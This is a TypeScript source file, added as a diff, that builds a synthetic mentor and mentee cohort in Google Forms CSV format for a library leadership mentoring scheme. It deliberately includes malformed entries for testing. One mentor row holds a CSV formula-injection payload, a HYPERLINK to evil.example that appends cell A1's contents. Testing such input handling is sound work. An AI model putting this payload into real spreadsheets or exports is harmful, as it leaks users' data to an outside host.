@@ -1,0 +1,118 @@
+import { AREAS } from '../domain/areas';
+import { CONSENT_OPTION, csvColumns, MENTEE_FORM, MENTOR_FORM } from '../domain/forms';
+
+/**
+ * A realistic synthetic cohort as Google Forms would export it: names from across the four
+ * nations (with their diacritics), real-sounding library services, and the awkward cases staff
+ * meet: invalid answers, someone applying as both, a resubmission and a formula-like answer.
+ */
+export interface DemoCohort {
+  mentorCsv: string[][];
+  menteeCsv: string[][];
+}
+
+const FIRST = ['Siân', 'Dafydd', 'Gwenllïan', 'Aoife', 'Siobhán', 'Seán', 'Ciarán', 'Zoë', 'Chloé', 'Łukasz', 'Björn', 'Niamh', 'Eilidh', 'Rhodri', 'Catrìona', 'Oisín', 'Renée', 'José', 'Ffion', 'Iestyn', 'Mairéad', 'Tomás', 'Bethan', 'Priya', 'Olúwaseun', 'Hannah', 'Graham', 'Margaret', 'Deepak', 'Ruth'];
+const LAST = ['Jones', 'Ó Briain', 'Llywelyn', 'MacLeòid', 'Nowak', 'Ní Bhriain', 'Williams', 'Brontë', 'Okafor', 'Patel', 'Hughes', 'Ó Súilleabháin', 'Evans', 'Smith', 'Øvergaard', 'Davies', 'McAllister', 'Khan', 'Roberts', 'Fitzgerald'];
+const SERVICES = ['Kent Libraries', 'Cardiff Libraries', 'Libraries NI', 'Gwynedd Libraries', 'Manchester Libraries', 'Norfolk Library and Information Service', 'Suffolk Libraries', 'Leeds Libraries', 'Bristol Libraries', 'Cornwall Libraries', 'Swansea Libraries', 'Jersey Library', 'Guernsey Library', 'Devon Libraries', 'Lincolnshire Libraries', 'Hampshire Library Service', 'Newcastle Libraries', 'Birmingham Libraries', 'Wrexham Libraries', 'Cumbria Libraries', 'Essex Libraries', 'Barnet Libraries', 'Hackney Libraries', 'Sheffield Libraries', 'Isle of Man Libraries', 'Ceredigion Libraries', 'Powys Libraries', 'York Explore', 'Oxfordshire Libraries', 'Somerset Libraries', 'Nottingham Libraries', 'Derbyshire Libraries', 'Liverpool Libraries', 'Wiltshire Libraries', 'Shropshire Libraries'];
+const TITLES = ['Head of Libraries', 'Head of Library Services', 'Libraries and Culture Manager', 'Service Director, Libraries', 'Head of Libraries, Heritage and Archives'];
+const GOALS = ['Confidence leading a restructure', 'Support with a capital bid', 'A sounding board as a new Head of Service', 'Working better with elected members', 'Planning a service transformation', 'Managing a reduced budget'];
+
+function prng(seed: number): () => number {
+  let a = seed;
+  return () => {
+    a = (a + 0x6d2b79f5) | 0;
+    let t = Math.imul(a ^ (a >>> 15), 1 | a);
+    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+/** Google's export format: "2026/05/14 10:21:03 am GMT+1". */
+function googleTimestamp(minutesAfterOpening: number): string {
+  const t = new Date(Date.UTC(2026, 4, 1, 8, 0, 0) + minutesAfterOpening * 60_000);
+  const pad = (n: number) => String(n).padStart(2, '0');
+  const local = new Date(t.getTime() + 3_600_000);
+  const h = local.getUTCHours();
+  return `${local.getUTCFullYear()}/${pad(local.getUTCMonth() + 1)}/${pad(local.getUTCDate())} ${pad(h % 12 === 0 ? 12 : h % 12)}:${pad(local.getUTCMinutes())}:${pad(local.getUTCSeconds())} ${h < 12 ? 'am' : 'pm'} GMT+1`;
+}
+
+function emailFor(first: string, last: string, service: string): string {
+  const plain = (s: string) => s.normalize('NFKD').replace(/[^A-Za-z]/g, '').toLowerCase();
+  const domain = service.split(' ')[0].normalize('NFKD').replace(/[^A-Za-z]/g, '').toLowerCase();
+  return `${plain(first)}.${plain(last)}@${domain}.gov.example`;
+}
+
+export function demoCohort({ mentors = 30, mentees = 40, seed = 2026 } = {}): DemoCohort {
+  const random = prng(seed);
+  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)];
+  const someAreas = () => {
+    const chosen = new Set<string>();
+    const n = 1 + Math.floor(random() * 3);
+    while (chosen.size < n) chosen.add(pick(AREAS.slice(0, 6)));
+    return AREAS.filter((a) => chosen.has(a)).join(', ');
+  };
+  const used = new Set<string>();
+  const person = (i: number) => {
+    let first: string;
+    let last: string;
+    do {
+      first = FIRST[(i * 7 + Math.floor(random() * FIRST.length)) % FIRST.length];
+      last = pick(LAST);
+    } while (used.has(`${first} ${last}`));
+    used.add(`${first} ${last}`);
+    const service = SERVICES[i % SERVICES.length];
+    return { first, last, name: `${first} ${last}`, service, email: emailFor(first, last, service) };
+  };
+
+  const mentorRows: string[][] = [csvColumns(MENTOR_FORM)];
+  const mentorPeople = [];
+  for (let i = 0; i < mentors; i += 1) {
+    const p = person(i);
+    mentorPeople.push(p);
+    mentorRows.push([
+      googleTimestamp(30 + i * 47),
+      p.email,
+      p.name,
+      p.service,
+      pick(TITLES),
+      'Yes',
+      someAreas(),
+      String(1 + Math.floor(random() * 3)),
+      `https://drive.google.com/file/d/demo-video-${i + 1}/view`,
+      i === 4 ? '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' : '',
+      CONSENT_OPTION,
+    ]);
+  }
+  // The awkward cases staff meet in real exports.
+  mentorRows[3][5] = 'No'; // not a Head of Service
+  mentorRows[8][7] = ''; // did not say how many mentees
+  mentorRows[12][8] = 'my video is on the shared drive'; // not a link
+
+  const menteeRows: string[][] = [csvColumns(MENTEE_FORM)];
+  for (let i = 0; i < mentees; i += 1) {
+    const p = person(mentors + i);
+    menteeRows.push([
+      googleTimestamp(60 + i * 53),
+      p.email,
+      p.name,
+      p.service,
+      pick(TITLES),
+      'Yes',
+      someAreas(),
+      pick(GOALS),
+      '',
+      CONSENT_OPTION,
+    ]);
+  }
+  menteeRows[2][1] = 'not-an-email-address';
+  menteeRows[6][9] = ''; // no consent
+  // Applies as both: the second mentor also applies as a mentee.
+  const both = mentorPeople[1];
+  menteeRows.push([googleTimestamp(2900), both.email, both.name, both.service, pick(TITLES), 'Yes', someAreas(), pick(GOALS), '', CONSENT_OPTION]);
+  // Applies again later with more areas: the row is updated and the earlier answers are logged.
+  const again = [...menteeRows[10]];
+  again[0] = googleTimestamp(3100);
+  again[6] = 'Budgeting, Working with councillors';
+  menteeRows.push(again);
+  return { mentorCsv: mentorRows, menteeCsv: menteeRows };
+}
